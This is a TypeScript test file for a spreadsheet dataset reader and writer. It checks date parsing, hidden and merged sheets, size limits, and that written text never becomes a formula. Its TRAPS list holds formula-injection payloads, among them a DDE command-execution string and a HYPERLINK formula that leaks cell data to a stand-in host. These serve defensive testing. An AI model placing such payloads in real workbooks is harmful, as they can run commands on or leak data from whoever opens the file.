import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { readXlsx, writeXlsx } from 'hucre/xlsx'
import { describe, expect, test } from 'vitest'
import { readDataset, writeWorkbook } from '../src/index.ts'
import { folderOf, LEAST, readWith } from './county.ts'
import { sheetData, workbookOf, zipOf } from './zip.ts'

/** The sessions table of a workbook whose start cells are given; styles 1 and 2 are date formats 31 and 22. */
async function startsOf(cells: readonly (string | number | { n: number; s: number })[], date1904 = false) {
  const rows = [
    ['活动编号', '组织编码', '活动类型', '开始时间'],
    ...cells.map((cell, i) => [`S${i}`, 'B1', '主题党日', cell]),
  ]
  const { '活动.csv': _, '考勤.csv': __, ...rest } = LEAST
  const folder = await folderOf({
    ...rest,
    '活动.xlsx': zipOf(workbookOf('活动', sheetData(rows), { date1904 })),
  })
  const dataset = await readDataset(folder, { pseudonymKey: 'k' })
  return cells.map((_cell, i) => {
    const session = dataset.session(`S${i}`)
    return session?.timeless ? session.start.slice(0, 10) : session?.start
  })
}

describe('dates in workbooks', () => {
  test('date cells in East-Asian formats, serial numbers and text', async () => {
    expect(
      await startsOf([
        { n: 45418, s: 1 },
        { n: 45418.60416666666, s: 2 },
        { n: 45418.99999, s: 2 },
        45418,
        45418.6041666667,
        20240506,
        '2024年5月6日 14:30',
        { n: 61, s: 1 },
      ]),
    ).toEqual([
      '2024-05-06',
      '2024-05-06T14:30+08:00',
      '2024-05-07',
      '2024-05-06',
      '2024-05-06T14:30+08:00',
      '2024-05-06',
      '2024-05-06T14:30+08:00',
      undefined,
    ])
  })

  test('workbooks that count from 1904', async () => {
    expect(
      await startsOf([{ n: 43956, s: 1 }, { n: 43956.60416666666, s: 2 }, 43956, 43956.5], true),
    ).toEqual(['2024-05-06', '2024-05-06T14:30+08:00', '2024-05-06', '2024-05-06T12:00+08:00'])
  })
})

describe('sheets', () => {
  test('a number too long for a spreadsheet is not taken for an identifier', async () => {
    const rows = [
      ['活动编号', '党员编号', '出席情况'],
      ['S1', 999999198005060000, '出席'],
      ['S1', 'M1', '出席'],
    ]
    const dataset = await readWith({ '考勤.csv': zipOf(workbookOf('考勤', sheetData(rows))) })
    expect(dataset.problems).toContainEqual(
      expect.objectContaining({
        code: 'scientific-notation',
        sheet: '考勤',
        row: 2,
        column: '党员编号',
        value: '********',
      }),
    )
    expect(dataset.counts.attendance).toBe(1)
  })

  test('a workbook named .csv and text named .xlsx are read for what they are', async () => {
    const rows = [
      ['活动编号', '党员编号', '出席情况'],
      ['S1', 'M1', '出席'],
    ]
    const dataset = await readWith({
      '考勤.csv': zipOf(workbookOf('考勤', sheetData(rows))),
      '任职.xlsx': '党员编号,组织编码,职务,任职日期\nM1,B1,书记,2024-05-06\n',
    })
    expect(dataset.counts).toMatchObject({ attendance: 1, posts: 1 })
    expect(dataset.trustworthy).toBe(true)
  })

  test('a workbook of Excel 97', async () => {
    const xls = await readFile(new URL('fixtures/posts.xls', import.meta.url))
    const dataset = await readWith({ '任职.xls': xls })
    expect(dataset.posts).toEqual([
      expect.objectContaining({ member: 'M1', role: 'secretary', from: '2024-05-06' }),
    ])
  })

  test('hidden sheets are read and named, unknown ones are left aside, unnamed ones go by the file', async () => {
    const bytes = await writeXlsx({
      sheets: [
        { name: '说明页', rows: [['x']] },
        { name: '填表须知', rows: [['x']] },
        {
          name: '考勤',
          hidden: true,
          rows: [
            ['活动编号', '党员编号', '出席情况'],
            ['S1', 'M1', '出席'],
          ],
        },
        {
          name: 'Sheet4',
          rows: [
            ['党员编号', '组织编码', '职务', '任职日期'],
            ['M1', 'B1', '书记', '2024-05-06'],
          ],
        },
      ],
    })
    const dataset = await readWith({ '任职.xlsx': bytes })
    expect(dataset.counts.posts).toBe(1)
    expect(dataset.problems).toContainEqual(
      expect.objectContaining({ code: 'hidden-sheet', sheet: '考勤', severity: 'notice' }),
    )
    expect(dataset.problems).toContainEqual(
      expect.objectContaining({ code: 'unrecognized-sheet', sheet: '填表须知' }),
    )
  })

  test('a merged title, blank rows and cells beyond the header', async () => {
    const bytes = await writeXlsx({
      sheets: [
        {
          name: '任职',
          merges: [{ startRow: 0, startCol: 0, endRow: 0, endCol: 3 }],
          rows: [
            ['任职情况统计表（2025年）'],
            [],
            ['序号', '姓名', '党组织', '职务', '任职时间'],
            [1, '张三', 'B1', '书记', '2024.5.6', null, '备注'],
            [],
          ],
        },
      ],
    })
    const dataset = await readWith({ '任职.xlsx': bytes })
    expect(dataset.counts.posts).toBe(1)
    expect(dataset.problems).toContainEqual(
      expect.objectContaining({ code: 'ragged-row', severity: 'error', row: 4 }),
    )
  })

  test('one enormous cell and a cell in the last column are refused', async () => {
    const cell = '<sheetData><row><c t="inlineStr"><is><t>考</t></is></c></row></sheetData>'
    const noise = Array.from({ length: 700_000 }, (_, i) => ((i * 7919) % 36).toString(36)).join('')
    const wide = '<sheetData><row r="1"><c r="XFD1" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    const dataset = await readWith({
      '考勤_a.xlsx': zipOf(workbookOf('考勤', cell.replace('考', noise))),
      '考勤_b.xlsx': zipOf(workbookOf('考勤', wide)),
    })
    const files = dataset.problems
      .filter(({ code }) => code === 'limit-exceeded')
      .map(({ file }) => file?.split('/').at(-1))
    expect(files).toEqual(['考勤_a.xlsx', '考勤_b.xlsx'])
  })
})

describe('writing', () => {
  const TRAPS = [
    '=1+1',
    '+1',
    '-2*3',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u3000=1',
    '\u200b=1',
    '＝1',
    '＋1',
    '－1',
    '＠a',
    '=HYPERLINK("http://x/?"&A1)',
    "=cmd|'/c calc'!A1",
    '"=1"',
    "'=1",
  ]

  test('text of a workbook is a string cell, never a formula', async () => {
    const path = join(await folderOf(), 'a.xlsx')
    await writeWorkbook(path, [
      { name: 'a[b]:*?/\\c', header: ['文字', '数'], rows: TRAPS.map((text) => [text, -5]) },
    ])
    const { sheets } = await readXlsx(await readFile(path))
    expect(sheets[0]!.name).toBe('a_b______c')
    expect(sheets[0]!.rows.slice(1).map((row) => row[0])).toEqual(TRAPS)
    expect(sheets[0]!.rows.slice(1).every((row) => row[1] === -5)).toBe(true)
    for (const cell of sheets[0]!.cells?.values() ?? []) expect(cell).not.toHaveProperty('formula')
  })

  test('sheet names are cut and made distinct', async () => {
    const path = join(await folderOf(), 'a.xlsx')
    const name = '一'.repeat(40)
    await writeWorkbook(
      path,
      [name, name, name].map((title) => ({ name: title, header: ['x'], rows: [] })),
    )
    const { sheets } = await readXlsx(await readFile(path))
    expect(sheets.map((sheet) => sheet.name)).toEqual([
      '一'.repeat(31),
      `${'一'.repeat(29)}_2`,
      `${'一'.repeat(29)}_3`,
    ])
  })

  test.each(['\u0000', '\u000b', '\ud800', '\uffff', 'x'.repeat(32_768)])(
    'what a workbook cannot hold is refused',
    async (text) => {
      await expect(
        writeWorkbook(join(await folderOf(), 'a.xlsx'), [{ name: 'a', header: ['x'], rows: [[text]] }]),
      ).rejects.toMatchObject({
        code: 'output-refused',
      })
    },
  )
})
